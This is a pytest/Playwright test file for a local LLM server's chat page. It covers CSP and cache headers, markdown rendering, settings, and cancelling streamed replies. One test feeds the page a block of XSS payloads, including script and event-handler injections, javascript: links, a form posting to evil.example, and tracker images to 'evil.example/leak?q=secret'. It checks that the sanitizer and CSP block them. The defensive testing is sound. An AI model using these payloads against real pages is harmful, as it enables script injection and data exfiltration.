"""The chat page at / in headless Chromium (Debian `chromium`, driven by
Playwright from pip; no `playwright install`).

Rendering checks (markdown, code highlighting, sanitizing) answer the page's
request with a fixed SSE stream through Playwright's page.route, so the
markdown is known; streaming, Stop and New chat run against `rill serve` on
the default model and check the server's /stats. Screenshots are kept in
build/artifacts/chat_page_*.png."""
import json
import os
import re
import time
import urllib.error
import urllib.request

import pytest

from conftest import API_KEY, MODEL, ROOT, Server, wait_idle

CHROMIUM = "/usr/bin/chromium"
ARTIFACTS = os.path.join(ROOT, "build", "artifacts")
# The Debian packages the page's libraries come from (scripts/setup.sh).
DEBIAN_FILES = {
    "marked.js": "/usr/share/javascript/marked/marked.umd.min.js",
    "highlight.js": "/usr/share/javascript/highlight.js/highlight.min.js",
    "highlight.css": "/usr/share/javascript/highlight.js/styles/github.css",
    "purify.js": "/usr/share/nodejs/dompurify/dist/purify.min.js",
}

if not os.access(CHROMIUM, os.X_OK):
    pytest.skip(f"{CHROMIUM} not found (scripts/setup.sh installs Debian chromium)", allow_module_level=True)
sync_api = pytest.importorskip("playwright.sync_api", reason="playwright not installed (scripts/setup.sh)")
expect = sync_api.expect

LONG_PROMPT = "Write a very long story about a dragon who learns to bake bread. Make it as long as you can."


@pytest.fixture(scope="module")
def server():
    """A server of its own with greedy sampling: the page sends no sampling
    fields unless set, so the server's defaults decide, and greedy makes the
    replies the same on every run."""
    if not os.path.exists(MODEL):
        pytest.skip(f"{MODEL} not found (run scripts/setup.sh)")
    s = Server("--api-key", API_KEY, "--temperature", 0)
    yield s
    s.stop()


@pytest.fixture(scope="module")
def browser():
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, headless=True,
                              args=["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"])
        yield b
        b.close()


@pytest.fixture
def page(server, browser):
    """A fresh browser profile (empty localStorage) on the chat page. The
    page's API calls authenticate with the key from ?key=."""
    ctx = browser.new_context(viewport={"width": 1100, "height": 760})
    ctx.grant_permissions(["clipboard-read", "clipboard-write"], origin=server.base)
    pg = ctx.new_page()
    pg.errors = []
    pg.on("pageerror", lambda e: pg.errors.append(str(e)))
    pg.csp = []
    pg.on("console", lambda m: pg.csp.append(m.text) if "Content Security Policy" in m.text else None)
    pg.goto(f"{server.base}/?key={API_KEY}")
    yield pg
    ctx.close()


def shot(page, name):
    os.makedirs(ARTIFACTS, exist_ok=True)
    page.screenshot(path=os.path.join(ARTIFACTS, f"chat_page_{name}.png"))


def get(server, path):
    with urllib.request.urlopen(server.base + path, timeout=10) as r:
        return r.status, r.headers, r.read()


def model_id(server):
    req = urllib.request.Request(server.base + "/v1/models", headers={"Authorization": f"Bearer {API_KEY}"})
    with urllib.request.urlopen(req, timeout=10) as r:
        return json.loads(r.read())["data"][0]["id"]


def sse_body(deltas, usage=None, finish="stop"):
    """A chat.completion.chunk stream as rill sends it: one chunk per delta,
    the finish chunk, the usage chunk (include_usage), [DONE]."""
    def chunk(choices, **extra):
        return {"id": "chatcmpl-fake", "object": "chat.completion.chunk", "created": 0, "model": "fake",
                "choices": choices, **extra}
    chunks = [chunk([{"index": 0, "delta": d, "finish_reason": None}]) for d in deltas]
    chunks.append(chunk([{"index": 0, "delta": {}, "finish_reason": finish}]))
    if usage:
        chunks.append(chunk([], usage=usage))
    return "".join(f"data: {json.dumps(c)}\n\n" for c in chunks) + "data: [DONE]\n\n"


def fake_reply(page, server, deltas, usage=None, finish="stop"):
    """Answers the page's next chat requests with `deltas`; returns the
    list the requests' JSON bodies are appended to."""
    bodies = []

    def handle(route):
        bodies.append(json.loads(route.request.post_data))
        route.fulfill(status=200, headers={"Content-Type": "text/event-stream"},
                      body=sse_body(deltas, usage, finish))
    page.route(f"{server.base}/v1/chat/completions", handle)
    return bodies


def send(page, text):
    page.fill("#input", text)
    page.press("#input", "Enter")


def last_reply(page):
    return page.locator(".msg.assistant").last


def wait_done(page, timeout=30000):
    page.wait_for_function("() => { const m = [...document.querySelectorAll('.msg.assistant')].pop();"
                           " return m && m.dataset.done === '1'; }", timeout=timeout)


def wait_streaming(page, n_chars=20):
    page.wait_for_function("n => { const m = [...document.querySelectorAll('.msg.assistant')].pop();"
                           " return m && m.dataset.streaming === '1' &&"
                           " m.querySelector('.body').textContent.length >= n; }", arg=n_chars, timeout=30000)


def wait_no_running(server, timeout=5):
    """The engine runs nothing `timeout` s after a cancel (the server cancels
    at its next step once the connection closes)."""
    deadline = time.time() + timeout
    while True:
        st = server.stats()["engine"]
        if st["active_requests"] == 0:
            return st
        assert time.time() < deadline, f"the engine still runs a request {timeout} s after the cancel: {st}"
        time.sleep(0.05)


# ---- serving -------------------------------------------------------------


def test_page_and_assets_are_served_with_policy_and_cache_headers(server):
    # Open without the key (a browser opening a page cannot send one).
    status, headers, html = get(server, "/")
    assert status == 200 and headers["Content-Type"] == "text/html; charset=utf-8"
    assert b"<title>rill</title>" in html
    csp = headers["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp and "unsafe-eval" not in csp
    assert "default-src 'none'" in csp and "img-src 'self' data:" in csp
    assert headers["Cache-Control"] == "no-cache" and headers["X-Content-Type-Options"] == "nosniff"
    assert b"<script>" not in html, "the page has no inline script: the CSP forbids it"

    urls = re.findall(rb'(?:src|href)="(/assets/[^"]+)"', html)
    names = {re.match(rb"/assets/([^?]+)\?v=[0-9a-f]{16}$", u).group(1).decode() for u in urls}
    assert names == {"chat.js", "chat.css", *DEBIAN_FILES}
    for url in urls:
        url = url.decode()
        name = url.split("/")[2].split("?")[0]
        status, headers, body = get(server, url)
        assert status == 200
        kind = "text/css" if name.endswith(".css") else "text/javascript"
        assert headers["Content-Type"] == f"{kind}; charset=utf-8", name
        assert headers["Cache-Control"] == "public, max-age=31536000, immutable", name
        assert headers["ETag"] == '"' + url.split("v=")[1] + '"'
        if name in DEBIAN_FILES:  # embedded byte for byte from the Debian package
            with open(DEBIAN_FILES[name], "rb") as f:
                assert body == f.read(), name
        # Without the version it linked, a cache must revalidate.
        assert get(server, url.split("?")[0])[1]["Cache-Control"] == "no-cache"
        assert get(server, url.split("?")[0] + "?v=0000000000000000")[1]["Cache-Control"] == "no-cache"

    for missing in ("/assets/nope.js", "/assets/index.html", "/assets/"):
        with pytest.raises(urllib.error.HTTPError) as e:
            get(server, missing)
        assert e.value.code == 404, missing
    req = urllib.request.Request(server.base + "/assets/chat.js", method="POST")
    with pytest.raises(urllib.error.HTTPError) as e:
        urllib.request.urlopen(req, timeout=10)
    assert e.value.code == 405 and e.value.headers["Allow"] == "GET, HEAD, OPTIONS"


def test_page_loads_and_shows_model(server, page):
    assert page.title() == "rill"
    expect(page.locator("#model")).to_have_text(model_id(server), timeout=5000)
    assert page.locator("#send").is_enabled() and page.locator("#stop").is_disabled()
    assert page.evaluate("typeof marked.parse + typeof DOMPurify.sanitize + typeof hljs.highlight") == \
        "functionfunctionfunction"
    # The CSP holds in the browser too: an inline handler set from script
    # does not run (a second wall behind the sanitizer).
    page.evaluate("""() => { const d = document.createElement('div');
        d.innerHTML = '<img src="data:," onerror="window.__inline = 1">'; document.body.appendChild(d); }""")
    page.wait_for_function("() => document.querySelector('img[onerror]').complete")
    assert page.evaluate("window.__inline") is None
    assert page.errors == []


# ---- rendering (fixed replies) ---------------------------------------------

MARKDOWN = """## Plan

Here is **bold**, *italic* and `inline code`.

1. first
2. second

| lang | fast |
|---|---|
| C++ | yes |

```python
def greet(name):
    return f"hello {name}"
```
"""


def test_markdown_code_reasoning_and_stats_render(server, page):
    deltas = [{"role": "assistant", "content": ""}, {"reasoning_content": "The user wants a plan. "},
              {"reasoning_content": "I will write one."}]
    deltas += [{"content": MARKDOWN[i:i + 17]} for i in range(0, len(MARKDOWN), 17)]
    usage = {"prompt_tokens": 12, "completion_tokens": 40, "total_tokens": 52,
             "prompt_tokens_details": {"cached_tokens": 8}}
    bodies = fake_reply(page, server, deltas, usage)
    send(page, "Make a plan")
    wait_done(page)
    reply = last_reply(page)
    md = reply.locator(".body.markdown")
    expect(md.locator("h2")).to_have_text("Plan")
    expect(md.locator("strong")).to_have_text("bold")
    expect(md.locator("em")).to_have_text("italic")
    expect(md.locator("p code")).to_have_text("inline code")
    expect(md.locator("ol li")).to_have_count(2)
    expect(md.locator("table td").first).to_have_text("C++")
    code = md.locator("pre code.language-python")
    expect(code).to_have_text('def greet(name):\n    return f"hello {name}"\n')
    # highlight.js marked up the tokens.
    expect(code.locator(".hljs-keyword").first).to_have_text("def")
    expect(code.locator(".hljs-string")).to_have_count(1)
    bar = md.locator("pre .code-bar")
    expect(bar.locator("span")).to_have_text("python")

    # Reasoning: present, folded.
    reasoning = reply.locator("details.reasoning")
    expect(reasoning).to_be_visible()
    assert reasoning.get_attribute("open") is None
    expect(reasoning.locator(".reasoning-body")).to_have_text("The user wants a plan. I will write one.", use_inner_text=False)
    expect(reasoning.locator(".reasoning-body")).to_be_hidden()
    reasoning.locator("summary").click()
    expect(reasoning.locator(".reasoning-body")).to_be_visible()

    # Per-reply figures from the usage chunk; no stopped badge.
    stats = reply.locator(".stats").text_content()
    assert "40 tokens" in stats and "8 of 12 prompt tokens cached" in stats, stats
    assert re.search(r"TTFT \d+ ms", stats), stats
    expect(reply.locator(".badge")).to_be_hidden()
    assert reply.get_attribute("data-stopped") is None

    # Copy buttons put the code (and the whole reply) on the clipboard.
    bar.locator("button.copy").click()
    expect(bar.locator("button.copy")).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == 'def greet(name):\n    return f"hello {name}"\n'
    reply.locator(".meta button.copy").click()
    assert page.evaluate("navigator.clipboard.readText()") == MARKDOWN

    # What the page asked for: streaming with usage, the default max_tokens,
    # no sampling fields (the server's defaults decide).
    body = bodies[0]
    assert body["stream"] is True and body["stream_options"] == {"include_usage": True}
    assert body["messages"] == [{"role": "user", "content": "Make a plan"}]
    assert body["max_tokens"] == 1024
    for absent in ("temperature", "top_p", "chat_template_kwargs", "reasoning_effort"):
        assert absent not in body
    reasoning.locator("summary").click()
    shot(page, "markdown")
    assert page.errors == [] and page.csp == []


# Each payload in a block of its own (a blank line ends an HTML block), so
# that marked passes each one on as HTML or as a markdown link / image.
ATTACKS = """Payloads:

<script>window.__pwned = 'script'</script>

<img src="x" onerror="window.__pwned = 'img'">

<svg onload="window.__pwned = 'svg'"><circle r="1"/></svg>

<iframe src="javascript:parent.__pwned = 'iframe'"></iframe>

<a href="javascript:window.__pwned = 'link'">click me</a>

[md link](javascript:window.__pwned='mdlink')

<style>body { display: none }</style>

<form action="https://evil.example/form"><input name="q"><button>go</button></form>

<div style="position:fixed;inset:0;background:red" onclick="window.__pwned='div'">overlay</div>

![tracker](https://evil.example/leak?q=secret)

<img src="https://evil.example/raw.png">

```html
<script>window.__pwned = 'code'</script>
```
"""


def test_script_in_model_output_does_not_run(server, page):
    responses, failures = [], {}
    page.on("response", lambda r: responses.append(r.url))
    page.on("requestfailed", lambda r: failures.__setitem__(r.url, r.failure))
    fake_reply(page, server, [{"content": ATTACKS}])
    send(page, "show me payloads")
    wait_done(page)
    md = last_reply(page).locator(".body.markdown")
    expect(md).to_contain_text("Payloads:")
    # The sanitizer removed every active part before it reached the DOM ...
    found = page.evaluate("""md => {
        const all = [...md.querySelectorAll('*')];
        return {
          scripts: md.querySelectorAll('script, iframe, style, form, input, button:not(.copy), svg').length,
          handlers: all.filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
          styles: all.filter(e => e.hasAttribute('style')).length,
          js_links: [...md.querySelectorAll('a')].filter(a => /^\\s*javascript:/i.test(a.getAttribute('href') || '')).length,
          ids: all.filter(e => e.id).length,
          links: [...md.querySelectorAll('a')].map(a => [a.target, a.rel]),
        }; }""", md.element_handle())
    assert found["scripts"] == 0 and found["handlers"] == 0 and found["styles"] == 0, found
    assert found["js_links"] == 0 and found["ids"] == 0, found
    assert all(t == "_blank" and r == "noopener noreferrer" for t, r in found["links"]), found
    # ... the code block shows the script as text ...
    expect(md.locator("pre code")).to_contain_text("<script>window.__pwned = 'code'</script>")
    # ... clicking what is left does nothing ...
    md.get_by_text("click me").click()
    md.get_by_text("md link").click()
    md.get_by_text("overlay").click()
    page.wait_for_timeout(200)
    assert page.evaluate("window.__pwned") is None
    expect(page.locator("body")).to_be_visible()
    # ... and the remote images were never fetched: the browser blocked them
    # by the CSP, which allows no other origin (a URL could carry the
    # conversation out).
    assert md.locator("img[src^='https://evil.example/']").count() == 2
    page.wait_for_function("() => [...document.querySelectorAll('img')].every(i => i.complete)")
    assert not [u for u in responses if "evil.example" in u]
    assert failures == {"https://evil.example/leak?q=secret": "csp",
                        "https://evil.example/raw.png": "csp"}, failures
    shot(page, "sanitized")
    assert page.errors == []


# ---- settings and conversations ----------------------------------------------


def test_settings_and_conversations_survive_reload(server, page):
    page.click("#open-settings")
    expect(page.locator("#settings")).to_be_visible()
    expect(page.locator("#set-max-tokens")).to_have_value("1024")
    page.fill("#set-system", "You are terse.")
    page.fill("#set-temperature", "0.3")
    page.fill("#set-top-p", "0.9")
    page.fill("#set-max-tokens", "77")
    page.select_option("#set-thinking", "off")
    shot(page, "settings")
    page.click("#close-settings")
    expect(page.locator("#settings")).to_be_hidden()

    page.reload()
    page.click("#open-settings")
    expect(page.locator("#set-system")).to_have_value("You are terse.")
    expect(page.locator("#set-temperature")).to_have_value("0.3")
    expect(page.locator("#set-top-p")).to_have_value("0.9")
    expect(page.locator("#set-max-tokens")).to_have_value("77")
    expect(page.locator("#set-thinking")).to_have_value("off")
    page.click("#close-settings")

    bodies = fake_reply(page, server, [{"content": "Sure."}])
    send(page, "first question")
    wait_done(page)
    body = bodies[0]
    assert body["messages"] == [{"role": "system", "content": "You are terse."},
                                {"role": "user", "content": "first question"}]
    assert body["temperature"] == 0.3 and body["top_p"] == 0.9 and body["max_tokens"] == 77
    assert body["chat_template_kwargs"] == {"enable_thinking": False} and "reasoning_effort" not in body

    # A reasoning effort goes as reasoning_effort.
    page.click("#open-settings")
    page.select_option("#set-thinking", "high")
    page.click("#close-settings")
    send(page, "second question")
    page.wait_for_function("() => document.querySelectorAll('.msg.assistant[data-done=\"1\"]').length == 2")
    assert bodies[1]["reasoning_effort"] == "high" and "chat_template_kwargs" not in bodies[1]
    assert [m["content"] for m in bodies[1]["messages"]] == \
        ["You are terse.", "first question", "Sure.", "second question"]

    # A second conversation; both are listed and kept after a reload.
    page.click("#new-chat")
    expect(page.locator(".msg")).to_have_count(0)
    send(page, "another topic")
    wait_done(page)
    page.reload()
    titles = page.locator("#conversations .conversation .title")
    expect(titles).to_have_text(["another topic", "first question"])
    expect(page.locator(".msg.user")).to_have_text(["another topic"])
    titles.nth(1).click()
    expect(page.locator(".msg.user")).to_have_text(["first question", "second question"])
    expect(page.locator(".msg.assistant .body")).to_have_text(["Sure.", "Sure."])
    shot(page, "conversations")

    # Reset brings the defaults back; deleting a conversation forgets it.
    page.click("#open-settings")
    page.click("#reset-settings")
    expect(page.locator("#set-max-tokens")).to_have_value("1024")
    expect(page.locator("#set-system")).to_have_value("")
    page.click("#close-settings")
    page.locator("#conversations .conversation.current .delete").click()
    expect(titles).to_have_text(["another topic"])
    page.reload()
    expect(titles).to_have_text(["another topic"])
    assert page.errors == []


def test_failed_request_shows_error_and_leaves_history(server, page):
    error = {"error": {"message": "messages: stubbed failure", "type": "invalid_request_error"}}
    url = f"{server.base}/v1/chat/completions"
    page.route(url, lambda route: route.fulfill(status=400, content_type="application/json", body=json.dumps(error)))
    send(page, "this one fails")
    expect(page.locator(".msg.error")).to_have_text("error: messages: stubbed failure", timeout=5000)
    assert page.locator("#send").is_enabled() and page.locator("#stop").is_disabled()
    page.unroute(url)
    # The failed turn is not sent again.
    bodies = fake_reply(page, server, [{"content": "ok"}])
    send(page, "try again")
    wait_done(page)
    assert bodies[0]["messages"] == [{"role": "user", "content": "try again"}]
    assert page.errors == []


def test_stop_before_the_first_token(server, page):
    held = []
    url = f"{server.base}/v1/chat/completions"
    page.route(url, lambda route: held.append(route))  # never answered
    send(page, "no answer comes")
    page.wait_for_function("() => document.querySelector('.msg.assistant[data-streaming=\"1\"]') !== null")
    expect(page.locator("#stop")).to_be_enabled()
    page.click("#stop")
    wait_done(page, 5000)
    reply = last_reply(page)
    expect(reply.locator(".badge")).to_have_text("stopped")
    assert page.locator(".msg.error").count() == 0
    assert page.locator("#send").is_enabled() and page.locator("#stop").is_disabled()
    page.unroute(url)
    # The turn that got no text is not sent again (roles keep alternating).
    bodies = fake_reply(page, server, [{"content": "ok"}])
    send(page, "second try")
    wait_done(page)
    assert bodies[0]["messages"] == [{"role": "user", "content": "second try"}]
    assert page.errors == []


# ---- against the server ----------------------------------------------------------


def test_streamed_reply_with_stats(server, page):
    expect(page.locator("#model")).to_have_text(model_id(server), timeout=5000)
    page.evaluate("""() => {
      window.__steps = [];
      new MutationObserver(() => {
        const m = [...document.querySelectorAll('.msg.assistant')].pop();
        if (m) window.__steps.push({ n: m.querySelector('.body').textContent.length,
                                     streaming: m.dataset.streaming === '1' });
      }).observe(document.getElementById('log'), { childList: true, subtree: true, characterData: true, attributes: true });
    }""")
    send(page, "Hi! Tell me three facts about the moon.")
    wait_done(page)
    reply = last_reply(page)
    text = reply.locator(".body").text_content()
    assert text.strip()
    assert page.locator(".msg.error").count() == 0
    steps = page.evaluate("window.__steps")
    lengths = sorted({s["n"] for s in steps if s["streaming"] and s["n"] > 0})
    if len(text) >= 40:
        assert len(lengths) > 1, f"the reply ({len(text)} chars) appeared in one step"

    def figures():
        stats = reply.locator(".stats").text_content()
        m = re.search(r"TTFT (\d+) ms · (\d+) tokens · (\d+) of (\d+) prompt tokens cached", stats)
        assert m, stats
        return stats, [int(x) for x in m.groups()]
    stats, (_, n_tokens, _, n_prompt) = figures()
    assert n_tokens > 0 and n_prompt > 0
    if n_tokens > 1:
        assert re.match(r"\d+(\.\d+)? tok/s · ", stats), stats
    # The second turn's prompt starts with the first turn: the server's
    # prefix cache serves part of it, and the page shows how much: the
    # figures are the engine's own (its counters moved by exactly these).
    before = wait_idle(server)["engine"]
    send(page, "And one more fact, please.")
    page.wait_for_function("() => document.querySelectorAll('.msg.assistant[data-done=\"1\"]').length == 2", timeout=30000)
    reply = last_reply(page)
    _, (_, n_tokens2, cached, n_prompt2) = figures()
    assert n_prompt2 > n_prompt and 0 < cached < n_prompt2
    after = wait_idle(server)["engine"]
    assert after["prompt_tokens"] - before["prompt_tokens"] == n_prompt2
    assert after["cached_tokens"] - before["cached_tokens"] == cached
    assert after["completion_tokens"] - before["completion_tokens"] == n_tokens2
    shot(page, "reply")
    assert wait_idle(server)["engine"]["active_requests"] == 0
    assert page.errors == []


def test_stop_marks_reply_stopped_and_cancels(server, page):
    before = wait_idle(server)["engine"]
    send(page, LONG_PROMPT)
    wait_streaming(page)
    assert page.locator("#stop").is_enabled() and page.locator("#send").is_disabled()
    assert server.stats()["engine"]["active_requests"] >= 1, "the story finished before Stop could be tested"
    page.click("#stop")
    wait_done(page, 5000)
    reply = last_reply(page)
    assert reply.get_attribute("data-stopped") == "1"
    expect(reply.locator(".badge")).to_have_text("stopped")
    stopped_at = reply.locator(".body").text_content()
    assert stopped_at.strip()
    assert page.locator(".msg.error").count() == 0, "a stop is not an error"
    assert page.locator("#send").is_enabled() and page.locator("#stop").is_disabled()
    after = wait_no_running(server)
    assert after["requests_finished"] == before["requests_finished"] + 1
    assert after["completion_tokens"] - before["completion_tokens"] < 200
    shot(page, "stopped")
    # The stopped reply stays marked after a reload.
    page.reload()
    expect(last_reply(page).locator(".badge")).to_have_text("stopped")
    expect(last_reply(page).locator(".body")).to_have_text(stopped_at)
    assert page.errors == []


def test_new_chat_during_stream_cancels_it(server, page):
    before = wait_idle(server)["engine"]
    send(page, LONG_PROMPT)
    wait_streaming(page)
    assert server.stats()["engine"]["active_requests"] >= 1, "the story finished before New chat could be tested"
    page.click("#new-chat")
    # A fresh conversation at once, ready for input ...
    expect(page.locator(".msg")).to_have_count(0)
    expect(page.locator("#send")).to_be_enabled()
    expect(page.locator("#stop")).to_be_disabled()
    # ... and the server stopped generating.
    after = wait_no_running(server)
    assert after["requests_finished"] == before["requests_finished"] + 1
    assert after["completion_tokens"] - before["completion_tokens"] < 200
    # The old conversation keeps the partial reply, marked stopped.
    page.locator("#conversations .conversation .title", has_text="Write a very long story").click()
    expect(last_reply(page).locator(".badge")).to_have_text("stopped")
    assert last_reply(page).locator(".body").text_content().strip()
    assert page.errors == []
